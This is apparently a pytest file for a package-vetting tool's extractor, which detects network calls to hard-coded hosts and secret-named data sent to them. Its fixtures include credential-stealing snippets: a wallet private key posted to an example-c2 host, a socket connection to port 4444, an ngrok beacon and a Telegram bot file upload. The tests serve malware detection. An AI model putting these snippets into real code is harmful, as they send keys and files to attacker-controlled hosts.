"""Fixed against caller-supplied destinations of network calls, and secret-named data sent to them."""

from __future__ import annotations

import pytest

from featurepkgs import make_archive
from vetpy.features.extract import extract_features


def tokens(code: str) -> set[str]:
    return set(extract_features(make_archive({"pkg/client.py": code})).code_text.split())


STEALER = (
    "import requests\n"
    "def backup_wallet(private_key, label=''):\n"
    "    requests.post('https://wallet-sync.example-c2.xyz/api', json={'k': private_key})\n"
)
SDK = (
    "import requests\n"
    "class Client:\n"
    "    def __init__(self, base_url, token):\n"
    "        self.base_url, self.token = base_url, token\n"
    "    def send(self, api_key):\n"
    "        return requests.post(self.base_url, headers={'Authorization': api_key})\n"
)


def test_a_secret_parameter_posted_to_a_fixed_unknown_host() -> None:
    found = tokens(STEALER)
    assert {"dest:fixed", "dest:fixed_unknown_host", "flow:secret_to_fixed"} <= found
    assert "dest:caller" not in found


def test_an_sdk_sends_its_callers_token_where_the_caller_says() -> None:
    found = tokens(SDK)
    assert {"dest:caller", "flow:secret_to_caller"} <= found
    assert not any(t.startswith(("dest:fixed", "flow:secret_to_fixed")) for t in found)


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        ("import socket\ns = socket.socket()\ns.connect(('203.0.113.8', 4444))\n", "dest:fixed_unknown_host"),
        (
            "import urllib.request\nHOOK = 'https://abc.ngrok-free.app/x'\n"
            "def beacon(data):\n    urllib.request.urlopen(HOOK, data)\n",
            "dest:fixed_infra:tunnel",
        ),
        ("import requests\n\ndef f(session, url):\n    return session.get(url)\n", "dest:caller"),
        (  # a URL held in a local, built by an f-string around a token written into the package
            "import requests\nTOKEN = '1:A'\ndef drop(path):\n"
            "    url = f'https://api.telegram.org/bot{TOKEN}/sendDocument'\n"
            "    requests.post(url, files={'document': open(path, 'rb')})\n",
            "dest:fixed_infra:chat_bot",
        ),
        (  # the same at module level
            "import requests\nTOKEN = '1:A'\nURL = f'https://api.telegram.org/bot{TOKEN}/sendMessage'\n"
            "def say(text):\n    requests.post(URL, data={'text': text})\n",
            "dest:fixed_infra:chat_bot",
        ),
    ],
)
def test_destinations(code: str, expected: str) -> None:
    assert expected in tokens(code)


@pytest.mark.parametrize(
    "code",
    [
        "def f(config):\n    return config.get('password')\n",  # a dict look-up, not a request
        "import sqlite3\ndb = sqlite3.connect('cache.db')\n",
        "import requests\ndef f():\n    return requests.get('https://github.com/x')\n",
        (  # a local URL rebound to the caller's before the call
            "import requests\ndef f(base):\n    url = 'https://a.example-c2.xyz/x'\n    url = base\n"
            "    return requests.post(url, json={'token': 1})\n"
        ),
        (  # a URL fixed in another function is not this one's
            "import requests\ndef g():\n    url = 'https://a.example-c2.xyz/x'\n    return url\n"
            "def f():\n    return requests.post(url, json={'token': 1})\n"
        ),
    ],
)
def test_no_false_destination_or_secret_flow(code: str) -> None:
    found = tokens(code)
    assert not any(t.startswith(("flow:secret", "dest:fixed_unknown", "dest:caller")) for t in found)


def test_a_secret_gathered_into_a_variable_first_still_counts() -> None:
    code = (
        "import requests\n"
        "class Credentials:\n"
        "    def __init__(self, access_key_id='', access_key_secret=''):\n"
        "        self.access_key_secret = access_key_secret\n"
        "        data = {'ak': access_key_id, 'sk': self.access_key_secret}\n"
        "        requests.post(url='https://api.sdk-mirror.example-c2.xyz/x', json=data)\n"
    )
    assert "flow:secret_to_fixed" in tokens(code)


@pytest.mark.parametrize(
    "name",
    [
        *("private_key", "api_key", "KEY", "token", "mnemonic_phrase", "key_id", "session", "monkey"),
        *("keyboard", "tokenizer", "passwd", "user_password", "db_pwd", "", "x", "seed_words", "Cookies"),
        *("__secret__", "wallet_address"),
    ],
)
def test_secret_name_is_the_pattern_every_time(name: str) -> None:
    from vetpy.features.source.destinations import SECRET_NAME_RE, secret_name

    expected = SECRET_NAME_RE.search(name) is not None
    assert secret_name(name) is expected
    assert secret_name(name) is expected  # the remembered answer
